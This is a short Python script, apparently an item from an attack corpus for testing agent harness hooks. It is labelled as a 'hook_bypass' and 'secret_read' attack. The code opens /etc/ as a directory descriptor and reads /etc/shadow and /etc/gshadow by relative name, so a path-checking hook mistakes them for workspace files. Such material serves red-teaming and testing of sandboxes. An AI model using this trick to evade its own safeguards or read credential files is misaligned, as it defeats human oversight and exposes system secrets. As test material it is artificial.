# attack: dirfd_open_secret
# class: 2
# category: hook_bypass
# kind: secret_read
# describe: open secrets by a name relative to a directory fd (dir_fd=), which a hook resolving against the cwd sees as a workspace file
import os

d = os.open("/etc/", os.O_RDONLY | os.O_DIRECTORY)  # a directory read like any other
for name in ("shadow", "gshadow"):
    try:
        fd = os.open(name, os.O_RDONLY, dir_fd=d)
        print(os.read(fd, 4096))
    except OSError as e:
        print(e)
